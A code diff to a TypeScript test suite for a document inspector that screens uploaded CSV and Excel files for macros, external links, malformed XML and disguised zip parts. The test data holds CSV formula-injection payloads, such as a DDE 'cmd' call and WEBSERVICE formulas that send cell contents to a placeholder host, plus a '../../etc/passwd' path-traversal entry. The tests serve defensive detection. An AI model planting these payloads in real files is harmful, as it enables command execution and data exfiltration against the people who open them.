@@ -1,9 +1,9 @@
 import fc from 'fast-check'
-import { deflateSync } from 'node:zlib'
+import { crc32, deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { losslessWebp, pictures } from '../../testing/media.ts'
 import { file, packedStream } from '../../testing/pdf-samples.ts'
-import { relationship, workbook, zip } from '../../testing/zip.ts'
+import { linksOf, relationship, typesOf, workbook, zip } from '../../testing/zip.ts'
 import { inspectDocument } from './inspect.ts'
 
 const csv = Buffer.from('Date,Text,Amount\n2026-10-01,"Card payments",1204.50\n2026-10-02,+1 (555) 010,-12\n')
@@ -26,6 +26,25 @@ describe('takes', () => {
       workbook({ links: relationship('hyperlink', 'Target="https://bank.example" TargetMode="External"') }),
       'xlsx',
     ],
+    [
+      'a workbook as other programs write it',
+      workbook({
+        types:
+          '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>',
+        parts: [
+          { name: 'xl/', content: '' },
+          { name: 'xl/media/image%C3%A9 1.png', content: 'x' },
+          {
+            name: 'xl/worksheets/_rels/sheet1.xml.rels',
+            content: `\ufeff<?xml version='1.0' encoding='utf-8' ?>\r\n<!-- sheet --><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">
+              <p:Relationship Target='/xl/drawings/drawing1.xml' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/drawing' Id='r1'></p:Relationship>
+              <p:Relationship Target="#'Sheet 1'!A1:B2" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Id="r2"/>
+            </p:Relationships>`,
+          },
+        ],
+      }),
+      'xlsx',
+    ],
   ])('%s, whatever it is called', async (_, bytes, kind) => {
     for (const name of ['a.pdf', 'invoice.exe', '', 'x.csv']) expect(await look(bytes, name)).toBe(kind)
   })
@@ -34,6 +53,23 @@ describe('takes', () => {
     expect(await look(csv, 'Export.CSV')).toBe('csv')
     expect(await look(Buffer.from('Café;1\n', 'latin1'), 'a.csv')).toBe('csv')
     expect(await look(Buffer.from('\ufeffDate;="00012"\n'), 'a.csv')).toBe('csv')
+  })
+
+  it.each([
+    ['amounts', '-12.50,+12.50,"-1,204.50",-$5,- 5.00 EUR,(12.50),-1\'204.50,−3,-5%,-1E5,-.5,+'],
+    ['amounts with commas', '01.10.2026;"-1.204,50";- 12,50 €;-;--;+/-;=12,5;="a b"'],
+    ['phone numbers', '+1 555 010-9999,+1 (555) 010-9999 ext. 5,+49/30/1234,+44 (0)20 7946 0000'],
+    ['remarks', "- fee,-POS PURCHASE #12,- opening balance: O'Hara & Co.,+ bonus,-- total --,@handle,@ 5%"],
+    ['rules', '=====,-----,+---+---+,@'],
+    ['text that another program made safe', '\'=A1,\'-x(1),"\'=HYPERLINK(""x"")"'],
+    ['formulas that are none', 'a=b(c),Total = SUM(A1),x@example.com (Ada),2-3 (x),f(-1)'],
+    ['a name that begins like another kind of file', 'ID;Price;Date\n1;-2;3'],
+    ['dates and times', '2026-10-02,10/02/2026,10:00-11:00,+02:00,-05:00'],
+    ['a named separator', 'sep=;\n1;"a, b";-2'],
+    ['lines in a cell', '"- first\n- second",-1'],
+    ['nothing', '\n\n,,;;||\t\n'],
+  ])('a CSV file with %s', async (_, text) => {
+    expect(await look(Buffer.from(`${text}\n`), 'a.csv')).toBe('csv')
   })
 
   it('what a phone adds behind a photo', async () => {
@@ -116,15 +152,28 @@ describe('refuses', () => {
       'a Word document',
       hidden(
         '[Content_Types].xml',
-        '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        typesOf(
+          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
+        ),
       ),
       /not an Excel/,
     ],
     ['macros by type', workbook({ types: type('vnd.ms-office.vbaProject') }), /macros/],
     [
       'macros by default type',
-      workbook({ types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
+      workbook({
+        types: '<Default Extension="Bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        parts: [{ name: 'xl/a.bIN', content: 'x' }],
+      }),
       /macros/,
+    ],
+    [
+      'macros by the type of an ending with a dot',
+      workbook({
+        types: '<Default Extension=".bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        parts: [{ name: 'xl/a.bin', content: 'x' }],
+      }),
+      /damaged/,
     ],
     ['a macro workbook', workbook({ types: type('vnd.ms-excel.sheet.macroEnabled.main+xml') }), /macros/],
     ['macro sheets', workbook({ types: type('vnd.ms-excel.macrosheet+xml') }), /macros/],
@@ -138,33 +187,21 @@ describe('refuses', () => {
     ['a template from elsewhere', workbook({ links: relationship('attachedTemplate', external) }), /links/],
     [
       'a link behind a > in another attribute',
-      hidden(rels, `<Relationships><Relationship Id="a>b" Type="x/image" ${external}/></Relationships>`),
+      hidden(rels, linksOf(`<Relationship Id="a>b" Type="x/image" ${external}/>`)),
       /links/,
     ],
     [
       'a link behind other quotes',
-      hidden(
-        rels,
-        `<Relationships><Relationship Id=' Type="x/hyperlink"' Type='x/image' ${external}/></Relationships>`,
-      ),
+      hidden(rels, linksOf(`<Relationship Id=' Type="x/hyperlink"' Type='x/image' ${external}/>`)),
       /links/,
     ],
     [
       'a link in another alphabet',
-      workbook({ parts: [{ name: rels, content: Buffer.from('<Relationships/>', 'utf16le') }] }),
+      workbook({ parts: [{ name: rels, content: Buffer.from(linksOf(''), 'utf16le') }] }),
       /damaged/,
     ],
-    [
-      'a link in numbers',
-      hidden(rels, `<Relationships><Relationship Type="x/vba&#80;roject"/></Relationships>`),
-      /damaged/,
-    ],
-    ['a declaration', hidden(rels, '<!DOCTYPE r [<!ENTITY x "y">]><Relationships/>'), /damaged/],
-    [
-      'a link that cannot be read',
-      hidden(rels, '<Relationships><Relationship Type=x/></Relationships>'),
-      /damaged/,
-    ],
+    ['a link in numbers', hidden(rels, linksOf(`<Relationship Type="x/vba&#80;roject"/>`)), /macros/],
+    ['a link that cannot be read', hidden(rels, linksOf('<Relationship Type=x/>')), /damaged/],
     ['a password', workbook({ parts: [{ name: 'xl/a.xml', content: 'x', flags: 1 }] }), /password/],
     ['the same part twice', workbook({ parts: [{ name: 'XL/workbook.xml', content: 'x' }] }), /damaged/],
     ['a way out', workbook({ parts: [{ name: '../../etc/passwd', content: 'x' }] }), /damaged/],
@@ -195,16 +232,152 @@ describe('refuses', () => {
     expect(await look(bytes)).toMatch(why)
   })
 
+  const prefixed = (xml: string) =>
+    xml.replaceAll(/<(\/?)(?=[A-Z])/g, '<$1é:').replace(' xmlns=', ' xmlns:é=')
+  it.each([
+    ['macros', hidden('[Content_Types].xml', prefixed(typesOf(type('vnd.ms-office.vbaProject'))))],
+    ['a link to a program', hidden(rels, prefixed(linksOf(relationship('externalLink'))))],
+    ['a link to another computer', hidden(rels, prefixed(linksOf(relationship('image', external))))],
+  ])('a workbook with %s under a prefix that is not ASCII', async (_, bytes) => {
+    expect(await look(bytes)).toMatch(/macros, embedded files or links/)
+  })
+
+  const link = relationship('worksheet')
+  const strict = (of: string) =>
+    `<Relationship Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/${of}" Target="x"/>`
+  it.each([
+    ['of the strict kind', linksOf(strict('oleObject')), /macros/],
+    ['of the strict kind to a file of another program', linksOf(strict('package')), /macros/],
+    ['with blanks around its kind', linksOf(relationship('package ')), /macros/],
+    ['with an escaped kind', linksOf(relationship('ole%4Fbject')), /damaged/],
+    ['inside that leads out', linksOf(relationship('worksheet', 'Target="file://x/y"')), /links/],
+    ['inside to another computer', linksOf(relationship('worksheet', 'Target="//x/y"')), /links/],
+    ['inside to a share', linksOf(relationship('worksheet', 'Target="\\\\x\\y"')), /links/],
+    ['in small letters that leads out', linksOf(relationship('image', 'TargetMode="external"')), /links/],
+    [
+      'to click that opens a file',
+      linksOf(relationship('hyperlink', 'Target="file:///x" TargetMode="External"')),
+      /links/,
+    ],
+    ['below an unknown element', linksOf(`<x>${link}</x>`), /damaged/],
+    ['below another', linksOf(`<Relationship Type="a/b">${link}</Relationship>`), /damaged/],
+    ['of another namespace', linksOf(link).replace('package/2006/', 'package/2007/'), /damaged/],
+    ['of no namespace', '<Relationships/>', /damaged/],
+    ['under a prefix that nothing declares', linksOf('<a:Relationship Type="a/b"/>'), /damaged/],
+    [
+      'with an attribute of another namespace',
+      linksOf(`<Relationship xmlns:a="a" a:Type="a/b"/>`),
+      /damaged/,
+    ],
+    ['twice the same attribute', linksOf('<Relationship Type="a/b" Type="a/c"/>'), /damaged/],
+    [
+      'in a declared type',
+      `<!DOCTYPE r [<!ENTITY x "y">]>${linksOf('').replace(/^<\?.*?\?>/, '')}`,
+      /damaged/,
+    ],
+    ['with an entity nothing declares', linksOf('&x;'), /damaged/],
+    ['behind an instruction', linksOf('<?x y?>'), /damaged/],
+    ['in two roots', `${linksOf('')}<x/>`, /damaged/],
+    ['in another alphabet', linksOf('').replace('UTF-8', 'UTF-7'), /damaged/],
+    ['in another version', linksOf('').replace('"1.0"', '"1.1"'), /damaged/],
+    ['behind two marks of order', `\ufeff\ufeff${linksOf('')}`, /damaged/],
+    ['in UTF-16', Buffer.from(`\ufeff${linksOf('')}`, 'utf16le'), /damaged/],
+    ['with half a letter', Buffer.from(`<a>é`).subarray(0, -1), /damaged/],
+    ['in nothing', '', /damaged/],
+  ])('a workbook with a link %s', async (_, content, why) => {
+    expect(await look(workbook({ parts: [{ name: rels, content }] }))).toMatch(why)
+  })
+
+  const otherName = (from: string, to: string): Buffer => {
+    const sum = Buffer.alloc(5, 1)
+    sum.writeUInt32LE(crc32(from), 1)
+    const head = Buffer.from([0x75, 0x70, sum.length + to.length, 0])
+    return Buffer.concat([head, sum, Buffer.from(to)])
+  }
+  const ole = linksOf(relationship('oleObject'))
+  it.each([
+    ['in other letters', { name: 'xl/_RELS/WORKBOOK.XML.RELS', content: ole }],
+    ['with an escaped letter', { name: 'xl/_rels/workbook.xml.%72els', content: ole }],
+    ['with an escaped bracket', { name: '%5BContent_Types%5D.xml', content: ole }],
+    ['with a letter that is only alike', { name: 'xl/_rels/workbook.xml.relſ', content: ole }],
+    ['with a NUL', { name: 'xl/_rels/workbook.xml.rels\0.txt', content: ole }],
+    ['in pieces', { name: 'xl/_rels/workbook.xml.rels/[0].piece', content: ole }],
+    ['where its bytes lie', { name: 'xl/a.txt', localName: 'xl/_rels/b.rels', content: ole }],
+    [
+      'in its extra fields',
+      { name: 'xl/_rels/b.rels', extra: otherName('xl/_rels/b.rels', 'xl/b.txt'), content: ole },
+    ],
+  ])('a workbook with a part that has another name %s', async (_, part) => {
+    expect(await look(workbook({ parts: [part] }))).toMatch(/damaged|macros/)
+  })
+
+  it('a workbook whose list of parts ends before it ends', async () => {
+    const bytes = workbook({ parts: [{ name: 'xl/_rels/z.rels', content: ole }] })
+    const count = bytes.readUInt16LE(bytes.length - 12)
+    bytes.writeUInt16LE(count - 1, bytes.length - 12)
+    bytes.writeUInt16LE(count - 1, bytes.length - 14)
+    expect(await look(bytes)).toMatch(/damaged/)
+  })
+
   it.each([
     ['bytes', Buffer.from('a,b\0c\n'), /not plain text/],
     ['two bytes a letter', Buffer.from('a,b\n', 'utf16le'), /not plain text/],
     ['a page', Buffer.from('  <table><tr>'), /web page/],
-    ['a call of a program', Buffer.from("a,=cmd|'/C calc'!A0\n"), /formulas/],
-    ['a call of a function', Buffer.from('a;"=HYPERLINK(""http://x"")"\n'), /formulas/],
-    ['one behind a sign', Buffer.from('a\t+WEBSERVICE("http://x")\n'), /formulas/],
-    ['one at its start', Buffer.from('@SUM(1)\n'), /formulas/],
+    ['a page of mail', Buffer.from('MIME-Version: 1.0\n'), /another kind of file/],
+    [
+      'an older workbook',
+      Buffer.from('ID;PWXL;N;E\nC;X1;Y1;K0;EWEBSERVICE("http://x")\n'),
+      /another kind of file/,
+    ],
+    ['two wide bytes a letter', Buffer.from('\ufeff＠ＡＢ（１）', 'utf16le'), /not plain text/],
+    ['a mark as separator', Buffer.from('sep="\na"=1\n'), /not plain text/],
+    ['two separators', Buffer.from('sep=,;\na,=1\n'), /not plain text/],
   ])('a CSV file with %s', async (_, bytes, why) => {
     expect(await look(bytes, 'a.csv')).toMatch(why)
+  })
+
+  const call = 'HYPERLINK("http://x")'
+  it.each([
+    ['a call of a program', "a,=cmd|'/C calc'!A0\n", 1, 2],
+    ['a call of a function', 'a;"=HYPERLINK(""http://x"")"\n', 1, 2],
+    ['one behind a sign', 'a\tb\nc\t+WEBSERVICE("http://x")\n', 2, 2],
+    ['one at its start', '@SUM(1)\n', 1, 1],
+    ['a comma in a text before it', '"=""a,b""&WEBSERVICE(""http://x/?x=""&A1)"\n', 1, 1],
+    ['a semicolon in a text before it', `a,"=1&""x;y""&${call.replaceAll('"', '""')}"\n`, 1, 2],
+    ['a bar between cells', `sep=|\nfoo|=${call}|3\n`, 2, 2],
+    ['a blank before the parenthesis', 'a,b\n=HYPERLINK ("http://x"),1\n', 2, 1],
+    ['a call of a program behind a text', `"=""x,""&cmd|'/C calc'!A0"\n`, 1, 1],
+    ['another separator that it names', `"sep=^"\r\na^b\r\nc^=${call}\r\n`, 3, 2],
+    ['a blank as separator', `sep= \na =A1\n`, 2, 2],
+    ['a bar that it does not name', `a,b\nc,d|=A1\n`, 2, 2],
+    ['quotes that only commas heed', `a,"b;=${call.replaceAll('"', '""')}"\n`, 1, 2],
+    ['commas and semicolons at once', `x,"y";=A1\n`, 1, 2],
+    ['a quote that never closes', `a,b\n"=${call.replaceAll('"', '""')}\n`, 2, 1],
+    ['one on a line within a cell, for semicolons', `a;b\nc,"d\n=A1"\n`, 3, 1],
+    ['one behind blanks', ' \u00a0\t=A1\n', 1, 2],
+    ['one behind quotes', '"""=A1"\n', 1, 1],
+    ['one behind characters without width', '\u200b\u2060=A1\n', 1, 1],
+    ['one behind a second mark of order', '\ufeff\ufeff=A1\n', 1, 1],
+    ['one in wide characters', 'a,＝ＷＥＢＳＥＲＶＩＣＥ（１）\n', 1, 2],
+    ['one behind a wide sign', 'a,＋ＡＢ（１）\n', 1, 2],
+    ['one after an old line end', 'a\r=A1\r', 2, 1],
+    ['one in parentheses behind a phone number', `+1 (555) ${call}\n`, 1, 1],
+    ['one within parentheses', `+1 (${call})\n`, 1, 1],
+    ['one in other letters', '-СУММ(1)\n', 1, 1],
+    ['one of several signs', '-+-@SUM (1)\n', 1, 1],
+    ['one with digits at its end', '-LOG10(1)\n', 1, 1],
+    ['a reference to another file', "-'\\\\10.0.0.1\\5\\[6]7'!1:1\n", 1, 1],
+    ['one to a name in it', '+book.xlsx!name\n', 1, 1],
+    ['one as LibreOffice writes it', "-'file:///x'#$Sheet1.A1\n", 1, 1],
+    ['one as it may be written', '-file:///x#Sheet1.A1\n', 1, 1],
+    ['a reference', 'a,=A1\n', 1, 2],
+    ['two texts', '="a"&"b"\n', 1, 1],
+    ['a text that ends early', '"=""a""&A1&"""\n', 1, 1],
+    ['a sign before more than a cell holds', `a,-${'b'.repeat(32_768)}\n`, 1, 2],
+  ])('a CSV file with a formula, and says where: %s', async (_, text, row, column) => {
+    expect(await look(Buffer.from(text), 'a.csv')).toContain(
+      `Row ${row}, column ${column} begins with a sign`,
+    )
   })
 
   it('what was changed by chance, or takes it, and never fails', async () => {
